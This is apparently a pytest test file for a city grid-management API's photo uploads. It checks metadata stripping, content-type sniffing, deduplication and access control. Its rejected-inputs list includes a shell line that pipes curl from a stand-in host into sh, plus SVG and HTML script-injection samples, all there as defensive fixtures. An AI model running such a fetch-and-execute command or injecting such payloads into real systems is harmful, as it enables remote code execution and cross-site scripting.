"""随手拍 over HTTP: photos go in as grid workers send them (multipart, a file name, a declared
type) and come back with nothing but their pixels — no EXIF, no GPS, no camera — stored once
however often they are sent, and shown only to whoever may see a call that names them.

Every image here is made by the test with Pillow; nothing is read from disk but what huying
stored.
"""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from httpx import Client, Response
from PIL import Image, ImageCms, PngImagePlugin
from sqlalchemy import func, select

from huying.api.app import create_app
from huying.bootstrap import Services
from huying.clock import FakeClock
from huying.db import attachments
from huying.services.attachments import heic_readable
from in_loop import in_loop

from .driver import RECIPES, Driven, Driver, Place

UPLOAD = "/api/v1/attachments"
HERE = Place()  # grid LW-LN-01-G01 of community LW-LN-01, street LW-LN
ELSEWHERE = Place("LW-LN-02-G01")  # another community of the same street
GRID_WORKER = HERE.grid_worker
SUPERVISOR = ("supervisor", "LW")
CG = ("department", "CG")
PROBLEM = "application/problem+json"

# Where the reporter stood, and what the camera was: none of it may survive.
GPS = {1: "N", 2: (23.0, 7.0, 4.8), 3: "E", 4: (113.0, 15.0, 7.2)}
MAKE, MODEL = "HUAWEI", "ELS-AN00 P40 Pro"


# --- images, made here ----------------------------------------------------------------------


def scene(size: tuple[int, int] = (96, 64), mode: str = "RGB") -> Image.Image:
    """A picture with detail in it (so encoders have work to do), in ``mode``."""
    picture = Image.effect_mandelbrot(size, (-2.0, -1.2, 0.8, 1.2), 60).convert(mode)
    return picture


def camera_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = MAKE
    exif[0x0110] = MODEL
    exif[0x0132] = "2026:11:23 08:41:07"  # DateTime
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update(GPS)
    return exif


def photo(fmt: str, size: tuple[int, int] = (96, 64), orientation: int = 1, mode: str = "RGB") -> bytes:
    """A photo as a phone would send it: EXIF with GPS and the camera's make and model."""
    out = io.BytesIO()
    # A colour profile too: the camera's own would name it; it goes, its colours are kept in sRGB.
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    extra: dict[str, Any] = {"exif": camera_exif(orientation).tobytes(), "icc_profile": icc}
    if fmt == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_text("Comment", "广州市荔湾区多宝路 12 号 3 楼")
        extra["pnginfo"] = text
    if fmt == "JPEG":
        extra["quality"] = 85
    scene(size, mode).save(out, fmt, **extra)
    return out.getvalue()


def gps_of(data: bytes) -> dict[int, Any]:
    return dict(Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825))


def leaks(data: bytes) -> list[str]:
    """Which traces of the camera, the place or the metadata are in these bytes."""
    image = Image.open(io.BytesIO(data))
    found = [k for k in ("exif", "xmp", "icc_profile", "comment", "Comment") if image.info.get(k)]
    if dict(image.getexif()):
        found.append("exif tags")
    found += [m for m in (MAKE, MODEL) if m.encode() in data]
    found += ["Exif segment"] if b"Exif\x00\x00" in data else []
    found += ["address"] if "多宝路".encode() in data else []
    return found


ACCEPTED = [
    pytest.param("JPEG", "image/jpeg", id="jpeg"),
    pytest.param("PNG", "image/png", id="png"),
    pytest.param("WEBP", "image/webp", id="webp"),
    pytest.param(
        "HEIF",
        "image/heic",
        id="heic",
        marks=pytest.mark.skipif(not heic_readable(), reason="pillow-heif is not installed"),
    ),
]


# --- HTTP -------------------------------------------------------------------------------------


@pytest.fixture
def http(services: Services) -> Iterator[Client]:
    with in_loop(create_app(services=services), raise_app_exceptions=False) as c:
        yield c


@pytest.fixture
def driver(http: Client, tokens: Any, clock: FakeClock) -> Driver:
    return Driver(http, tokens, clock)


def upload(
    driver: Driver,
    data: bytes,
    who: tuple[str, str] = GRID_WORKER,
    name: str = "IMG_20261123_084107.jpg",
    declared: str = "image/jpeg",
) -> Response:
    return driver.client.post(
        UPLOAD, files={"file": (name, data, declared)}, headers=driver.tokens.headers(*who)
    )


def stored(driver: Driver, data: bytes, who: tuple[str, str] = GRID_WORKER) -> dict[str, Any]:
    response = upload(driver, data, who)
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def fetch(driver: Driver, attachment_id: str, who: tuple[str, str], variant: str | None = None) -> Response:
    params = {"variant": variant} if variant else None
    return driver.client.get(f"{UPLOAD}/{attachment_id}", params=params, headers=driver.tokens.headers(*who))


def problem_of(response: Response, status: int, kind: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    body: dict[str, Any] = response.json()
    assert body["type"] == kind and body["status"] == status and body["detail"]
    return body


def files_under(directory: Path) -> list[Path]:
    return sorted(p for p in directory.rglob("*") if p.is_file()) if directory.exists() else []


def rows(services: Services) -> int:
    with services.engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(attachments)).scalar_one())


def attachments_dir(services: Services) -> Path:
    directory = services.settings.attachments_dir
    assert directory is not None
    return directory


# --- what is accepted, and what comes back ---------------------------------------------------------


@pytest.mark.parametrize(("fmt", "content_type"), ACCEPTED)
def test_each_accepted_type_is_stored_and_comes_back_as_described(
    driver: Driver, fmt: str, content_type: str
) -> None:
    response = upload(driver, photo(fmt), name=f"随手拍.{fmt.lower()}", declared="application/octet-stream")
    assert response.status_code == 201, response.text
    body = response.json()
    assert set(body) == {"id", "sha256", "content_type", "size", "width", "height"}
    assert body["content_type"] == content_type, "judged by the bytes, not the declared type"
    assert (body["width"], body["height"]) == (96, 64)
    assert response.headers["Location"] == f"{UPLOAD}/{body['id']}"

    got = fetch(driver, body["id"], GRID_WORKER)
    assert got.status_code == 200, got.text
    assert got.headers["content-type"] == content_type
    assert got.headers["x-content-type-options"] == "nosniff"
    assert len(got.content) == body["size"] and hashlib.sha256(got.content).hexdigest() == body["sha256"]
    image = Image.open(io.BytesIO(got.content))
    assert image.format == fmt and image.size == (96, 64)


@pytest.mark.parametrize(("fmt", "content_type"), ACCEPTED)
def test_a_photo_comes_back_without_its_gps_camera_or_any_other_metadata(
    driver: Driver, fmt: str, content_type: str
) -> None:
    sent = photo(fmt)
    assert gps_of(sent) and MAKE.encode() in sent, "the test photo does carry GPS and the camera"
    body = stored(driver, sent)
    for variant in (None, "thumb"):
        got = fetch(driver, body["id"], GRID_WORKER, variant)
        assert got.status_code == 200, got.text
        assert gps_of(got.content) == {}
        assert leaks(got.content) == [], f"{content_type} {variant or 'original'}"


def test_a_grid_workers_jpeg_with_gps_comes_back_upright_and_without_it(driver: Driver) -> None:
    """The phone held upright shoots landscape pixels and an orientation tag (6: turn 90°);
    the tag goes with the rest of the EXIF, so the pixels are turned before it goes."""
    sent = photo("JPEG", size=(96, 64), orientation=6)
    assert gps_of(sent) == GPS
    body = stored(driver, sent)
    assert (body["width"], body["height"]) == (64, 96)
    got = fetch(driver, body["id"], GRID_WORKER).content
    assert Image.open(io.BytesIO(got)).size == (64, 96)
    assert gps_of(got) == {} and leaks(got) == []


def test_the_thumbnail_is_a_small_jpeg_for_lists(driver: Driver) -> None:
    body = stored(driver, photo("PNG", size=(1000, 600), mode="RGBA"))
    thumb = fetch(driver, body["id"], GRID_WORKER, "thumb")
    assert thumb.status_code == 200 and thumb.headers["content-type"] == "image/jpeg"
    assert Image.open(io.BytesIO(thumb.content)).size == (320, 192)
    assert fetch(driver, body["id"], GRID_WORKER, "poster").status_code == 422


# --- what is refused ---------------------------------------------------------------------------


def gif() -> bytes:
    out = io.BytesIO()
    scene().convert("P").save(out, "GIF")
    return out.getvalue()


DISGUISED = [
    pytest.param(
        b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "run.jpg", "image/jpeg", id="script-as-jpg"
    ),
    pytest.param("居民反映楼道垃圾堆积\n".encode(), "note.jpg", "image/jpeg", id="text-claiming-jpeg"),
    pytest.param(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "x.png", "image/png", id="svg"
    ),
    pytest.param(b"<html><script>alert(1)</script></html>", "x.webp", "image/webp", id="html"),
    pytest.param(gif(), "animated.jpg", "image/jpeg", id="gif"),
    pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "scan.heic", "image/heic", id="pdf"),
    pytest.param(b"\xff\xd8\xff\xe0" + b"\x00" * 200, "broken.jpg", "image/jpeg", id="jpeg-magic-then-junk"),
    pytest.param(photo("PNG")[:300], "cut.png", "image/png", id="truncated-png"),
    pytest.param(b"", "empty.jpg", "image/jpeg", id="empty"),
]


@pytest.mark.parametrize(("data", "name", "declared"), DISGUISED)
def test_anything_but_a_readable_photo_is_415_and_nothing_is_kept(
    driver: Driver, services: Services, data: bytes, name: str, declared: str
) -> None:
    response = upload(driver, data, name=name, declared=declared)
    problem_of(response, 415, "/problems/unsupported-media-type")
    assert files_under(attachments_dir(services)) == [] and rows(services) == 0


def test_the_declared_type_and_file_name_are_never_believed(driver: Driver) -> None:
    body = stored(driver, photo("PNG"))  # sent as IMG_….jpg, image/jpeg
    assert body["content_type"] == "image/png"


def test_an_upload_over_the_limit_is_413(driver: Driver, services: Services) -> None:
    limit = services.settings.max_attachment_bytes
    over = b"\xff\xd8\xff\xe0" + b"\x00" * limit  # one part just over the limit
    problem_of(upload(driver, over), 413, "/problems/payload-too-large")
    far_over = b"\xff\xd8\xff\xe0" + b"\x00" * (limit + 256 * 1024)  # the whole request over
    problem_of(upload(driver, far_over), 413, "/problems/payload-too-large")
    assert rows(services) == 0


def test_json_bodies_elsewhere_keep_their_64_kib_limit(driver: Driver) -> None:
    headers = {**driver.tokens.headers(*GRID_WORKER), "Content-Type": "application/json"}
    big = json.dumps({"title": "x" * (70 * 1024)}).encode()
    problem_of(
        driver.client.post("/api/v1/calls", content=big, headers=headers), 413, "/problems/payload-too-large"
    )
    # The upload path takes more than 64 KiB, but only as a file: this is 422 (no file), not 413.
    problem_of(driver.client.post(UPLOAD, content=big, headers=headers), 422, "/problems/invalid-request")


@pytest.mark.parametrize("who", [("auditor", "LW"), ("admin", "LW")], ids=["auditor", "admin"])
def test_auditors_and_admins_upload_nothing(driver: Driver, services: Services, who: tuple[str, str]) -> None:
    problem_of(upload(driver, photo("JPEG"), who), 403, "/problems/not-permitted")
    assert rows(services) == 0


def test_a_request_without_a_token_is_401_before_anything(driver: Driver) -> None:
    response = driver.client.post(UPLOAD, files={"file": ("a.jpg", photo("JPEG"), "image/jpeg")})
    problem_of(response, 401, "/problems/unauthorized")


# --- stored once ------------------------------------------------------------------------------


def test_the_same_bytes_uploaded_twice_are_stored_once(driver: Driver, services: Services) -> None:
    sent = photo("JPEG")
    first = stored(driver, sent)
    again = stored(driver, sent)
    by_another = stored(driver, sent, ("community", HERE.community))
    assert first == again == by_another
    assert rows(services) == 1
    names = [p.name for p in files_under(attachments_dir(services))]
    assert names == [first["sha256"], f"{first['sha256']}.thumb.jpg"], "one original, one thumbnail"


def test_the_same_picture_with_other_metadata_is_the_same_attachment(
    driver: Driver, services: Services
) -> None:
    """Only the pixels are kept, so what differed only in its EXIF is one attachment."""
    one = stored(driver, photo("JPEG"))
    out = io.BytesIO()
    scene().save(out, "JPEG", quality=85)  # the same pixels, no EXIF at all
    other = stored(driver, out.getvalue())
    assert other["id"] == one["id"] and rows(services) == 1


# --- referenced by calls and notes; unknown ids --------------------------------------------------------


def raise_with(
    driver: Driver, ids: list[str], who: tuple[str, str] = GRID_WORKER, place: Place = HERE
) -> Driven:
    return driver.raise_call(place, who, channel="photo", attachments=ids)


def signed(driver: Driver, ids: list[str] | None = None) -> Driven:
    """A call with photos, dispatched to CG (lead) and ZJ (assist) and signed by CG."""
    c = raise_with(driver, ids or [])
    for state in ("escalated", "street_in_progress", "dispatched", "signed"):
        c.call = RECIPES[state].step(driver, c)
    return c


UNKNOWN = "00000000-0000-5000-8000-000000000000"


def test_an_unknown_attachment_on_a_raise_is_422_naming_the_field(driver: Driver) -> None:
    known = stored(driver, photo("JPEG"))["id"]
    body = {
        "item_code": "C01-01",
        "grid_code": HERE.grid,
        "title": "垃圾堆积",
        "description": "见照片",
        "channel": "photo",
        "attachments": [known, UNKNOWN],
    }
    response = driver.post("/api/v1/calls", GRID_WORKER, body, expect=None)
    problem = problem_of(response, 422, "/problems/invalid-request")
    assert problem["errors"][0]["field"] == "attachments.1" and UNKNOWN in problem["detail"]


@pytest.mark.parametrize(
    ("action", "body"), [("progress", {"note": "已到场"}), ("complete", {"result": "已清运"})]
)
def test_an_unknown_attachment_on_a_note_is_422_and_writes_nothing(
    driver: Driver, action: str, body: dict[str, Any]
) -> None:
    c = signed(driver)
    response = driver.post(
        f"/api/v1/work-orders/{c.order_id()}/{action}", CG, {**body, "attachments": [UNKNOWN]}, expect=None
    )
    assert problem_of(response, 422, "/problems/invalid-request")["errors"][0]["field"] == "attachments.0"
    assert driver.read(c.id)["version"] == c.version


def test_a_photo_seen_nowhere_by_you_cannot_be_borrowed(driver: Driver) -> None:
    """An id you did not upload, named by no call you can see, is as unknown as a made-up one."""
    theirs = stored(driver, photo("PNG"), ELSEWHERE.grid_worker)["id"]
    response = driver.post(
        "/api/v1/calls",
        GRID_WORKER,
        {
            "item_code": "C01-01",
            "grid_code": HERE.grid,
            "title": "借用照片",
            "description": "别处的照片",
            "channel": "photo",
            "attachments": [theirs],
        },
        expect=None,
    )
    assert problem_of(response, 422, "/problems/invalid-request")["errors"][0]["field"] == "attachments.0"
    assert fetch(driver, theirs, GRID_WORKER).status_code == 404


def test_progress_and_completion_notes_carry_photos(driver: Driver) -> None:
    reporters = stored(driver, photo("JPEG"))["id"]
    c = signed(driver, [reporters])
    under_way = stored(driver, photo("WEBP"), CG)["id"]
    done = stored(driver, photo("PNG"), CG)["id"]
    driver.on_order(c, "progress", {"note": "已到场清运", "attachments": [under_way]})
    call = driver.on_order(c, "complete", {"result": "已清运并消杀", "attachments": [done, under_way]})
    assert call["attachments"] == [reporters, under_way, done], "every photo on the call, each once"

    history = driver.get(f"/api/v1/calls/{c.id}/history").json()["data"]
    named = {e["type"]: e["data"].get("attachments") for e in history}
    assert named["Raised"] == [reporters]
    assert named["ProgressNoted"] == [under_way]
    assert named["WorkOrderCompleted"] == [done, under_way]
    # The street coordinating the call sees the department's photos; an uninvolved one does not.
    assert fetch(driver, done, HERE.street_staff).status_code == 200
    assert fetch(driver, done, ("department", "SW")).status_code == 404


# --- who may see a photo -----------------------------------------------------------------------


def test_only_who_can_see_a_call_naming_it_may_fetch_a_photo(driver: Driver) -> None:
    photo_id = stored(driver, photo("JPEG"))["id"]
    # Before any call names it: its uploader only.
    assert fetch(driver, photo_id, GRID_WORKER).status_code == 200
    assert fetch(driver, photo_id, HERE.community_staff).status_code == 404

    c = raise_with(driver, [photo_id])
    assert c.call["attachments"] == [photo_id]
    allowed = [
        HERE.community_staff,
        ("grid_worker", "LW-LN-01-G02"),
        HERE.street_staff,
        SUPERVISOR,
        ("auditor", "LW"),
        ("admin", "LW"),
    ]
    refused = [
        ELSEWHERE.community_staff,
        ELSEWHERE.grid_worker,
        ("street", "LW-HL"),
        CG,  # no work order on the call (yet)
        ("department", "SW"),
    ]
    for who in allowed:
        for variant in (None, "thumb"):
            assert fetch(driver, photo_id, who, variant).status_code == 200, (who, variant)
    for who in refused:
        for variant in (None, "thumb"):
            problem_of(fetch(driver, photo_id, who, variant), 404, "/problems/not-found")
    problem_of(fetch(driver, UNKNOWN, SUPERVISOR), 404, "/problems/not-found")

    # Once CG holds a work order on the call, CG may see its photos too; SW still may not.
    for state in ("escalated", "street_in_progress", "dispatched"):
        c.call = RECIPES[state].step(driver, c)
    assert fetch(driver, photo_id, CG).status_code == 200
    assert fetch(driver, photo_id, ("department", "SW")).status_code == 404
